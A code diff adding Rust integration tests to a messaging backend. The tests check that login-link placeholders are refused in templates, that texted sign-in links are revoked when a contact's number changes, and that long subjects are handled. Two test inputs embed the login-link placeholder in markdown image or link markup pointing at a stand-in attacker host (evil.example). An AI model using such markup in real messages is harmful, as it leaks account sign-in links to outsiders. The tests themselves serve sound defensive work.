@@ -86,6 +86,18 @@ async fn bad_input_is_refused_at_its_field_and_nothing_is_sent() {
         (with(json!({"body": "{{ contact.first_name }}"})), "input.body"),
         (with(json!({"body": "{{ offer.title }}"})), "input.body"),
         (with(json!({"body": "{% for a in b %}"})), "input.body"),
+        (
+            with(json!({"subject": "{{ portal.login_url }}"})),
+            "input.subject",
+        ),
+        (
+            with(json!({"body": "![x](https://evil.example/?u={{ portal.login_url }})"})),
+            "input.body",
+        ),
+        (
+            with(json!({"body": "[x](https://evil.example/?u={{ membership.login_url }})"})),
+            "input.body",
+        ),
         (with(json!({"templateId": "template_x"})), "input.templateId"),
         (
             json!({"selection": email["selection"], "channel": "EMAIL", "templateId": "template_x"}),
@@ -175,6 +187,77 @@ async fn a_written_text_message_carries_a_link_for_ten_minutes() {
         text.starts_with("Your portal: ") && text.ends_with("/link/••••••"),
         "{text}"
     );
+    server.stop().await;
+}
+
+/// Staff can change a number and text a link to it, so that it must not give them the contact's account.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_texted_link_signs_in_but_proves_nothing_and_ends_with_its_number() {
+    let twilio = TestTwilio::open().await;
+    let server = TestTwilio::server(twilio.address).await;
+    let limit = "update accounts set limit_copied_links = true; update contacts set email_proved_at = now()";
+    server.test.run(limit).await;
+    let id = server.acme.contact.to_string();
+    let number = "mutation ($id: ID!, $phone: String!) { updateContact(input: {contactId: $id, phone: $phone}) { contact { phone } } }";
+    let input = json!({"selection": {"contactIds": [id]}, "channel": "SMS", "format": "TEXT", "body": "{{ portal.login_url }}"});
+    let redeem = "mutation ($token: String!) { signInWithMagicLink(input: {token: $token}) { session { accessToken } refusal { reason } } }";
+    let mut redeemed = Vec::new();
+    for (round, change) in [false, true, false].into_iter().enumerate() {
+        let phone = format!("+4915112345{}", 678 + round);
+        let key = &server.acme.key;
+        server.data(key, number, json!({"id": id, "phone": phone})).await;
+        send(&server, input.clone()).await;
+        wait_until("the text is sent", async || twilio.received().len() == round + 1).await;
+        let body = twilio.received()[round].body.clone();
+        if change {
+            server
+                .data(key, number, json!({"id": id, "phone": "+4915112340000"}))
+                .await;
+        }
+        let token = json!({"token": body.rsplit('/').next()});
+        let answer = server.request(None, redeem, token).await;
+        redeemed.push(answer["data"]["signInWithMagicLink"].clone());
+        server.clock.advance(TimeDelta::seconds(2));
+    }
+    assert_eq!(redeemed[1]["refusal"]["reason"], "LINK_REVOKED", "{redeemed:?}");
+    let token = redeemed[0]["session"]["accessToken"].as_str().expect("a session");
+    assert_eq!(
+        crate::passwords::set(&server, token, "a long enough passphrase").await,
+        "STEP_UP_REQUIRED"
+    );
+    let me = server
+        .data(token, "{ me { courses(first: 1) { totalCount } } }", json!({}))
+        .await;
+    assert_eq!(
+        me["me"]["courses"]["totalCount"], 0,
+        "not limited to the home page"
+    );
+    let of_texts = "from sessions s join magic_links l on l.id = s.magic_link_id where l.purpose = 'MESSAGE'";
+    let all = format!("select count(*) {of_texts}");
+    assert_eq!(server.test.number(&all).await, 2);
+    let proved = format!("select count(*) {of_texts} and s.proved_at is not null");
+    assert_eq!(server.test.number(&proved).await, 0);
+    server.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_email_with_an_endless_subject_holds_up_no_other() {
+    let server = TestServer::open().await;
+    let name: String = ('\u{1F300}'..).take(200).collect();
+    let long = format!("update contacts set first_name = '{name}', last_name = '{name}'");
+    server.test.run(&long).await;
+    let subject = "{{ contact.name | default('x') }}".repeat(15);
+    let mut input = email(&server, "Hello");
+    input["subject"] = json!(subject);
+    send(&server, input).await;
+    wait_until("the mail is sent", async || server.mailbox.sent().len() == 1).await;
+    send(&server, email(&server, "Hello again")).await;
+    wait_until("the next is sent", async || server.mailbox.sent().len() == 2).await;
+    let settled = "select count(*) from messages where status = 'SENT' and length(subject) <= 1000";
+    wait_until("both are marked", async || server.test.number(settled).await == 2).await;
+    let search = "{ messages(filter: {search: \"news\"}) { totalCount nodes { subject } } }";
+    let found = server.data(&server.acme.read_key, search, json!({})).await;
+    assert_eq!(found["messages"]["totalCount"], 1, "{found}");
     server.stop().await;
 }
 
